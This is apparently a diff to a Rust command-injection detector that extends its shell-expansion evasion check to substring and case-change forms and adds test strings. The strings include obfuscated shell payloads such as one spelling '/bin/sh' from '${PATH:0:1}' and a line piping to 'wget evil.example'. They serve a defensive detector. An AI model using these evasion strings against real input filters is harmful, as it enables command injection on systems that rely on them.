@@ -1623,7 +1623,9 @@ fn is_argument(w: &[u8]) -> bool {
 }
 
 /// Shell expansions no other syntax writes: arithmetic `$((…))`, pattern removal from a
-/// parameter (`${PATH#*/}`, `${x%%.*}`) and ANSI-C quoted escapes (`$'\x69'`).
+/// parameter (`${PATH#*/}`, `${x%%.*}`), a substring of one (`${PATH:0:1}` spells `/`), case
+/// changed (`${x^^}`) and ANSI-C quoted escapes (`$'\x69'`). `${PORT:-80}`, a default, is
+/// configuration syntax too and is left alone.
 fn expansion(b: &[u8]) -> Option<Hit> {
     for p in memchr::memchr_iter(b'$', b) {
         let rest = &b[p + 1..b.len().min(p + 64)];
@@ -1643,7 +1645,13 @@ fn expansion(b: &[u8]) -> Option<Hit> {
                 .iter()
                 .take_while(|c| c.is_ascii_alphanumeric() || **c == b'_')
                 .count();
-            if name > 0 && matches!(r.get(name), Some(b'#' | b'%')) && r[name..].contains(&b'}') {
+            let operator = match r.get(name) {
+                Some(b'#' | b'%' | b'^') => true,
+                Some(b',') => r.get(name + 1) == Some(&b','),
+                Some(b':') => r.get(name + 1).is_some_and(u8::is_ascii_digit),
+                _ => false,
+            };
+            if name > 0 && operator && r[name..].contains(&b'}') {
                 return Some(Hit::new("cmdi.shell_evasion", p, p + 2 + name + 1));
             }
         }
@@ -2363,6 +2371,9 @@ mod tests {
             "alias -g x=y",
             "$((7))z -x",
             "${PATH#*/}",
+            "${PATH:0:1}bin${PATH:0:1}sh",
+            "c${x,,}at /etc/hosts",
+            "${SHELL^^}",
             "{,ip,a}",
             "{l,-lh}s",
             "|$u wget evil.example",
@@ -2461,6 +2472,8 @@ mod tests {
             "a non-breaking space; &copy; 2024 Example Ltd.",
             "3 &times; 4 = 12; &times; is multiplication",
             "one; two; three",
+            "listen on ${PORT:-8080}",
+            "Hello ${name}, welcome",
             "the /bin directory",
             "Use ``pip`` to install",
             "For each item in (the list) do nothing",
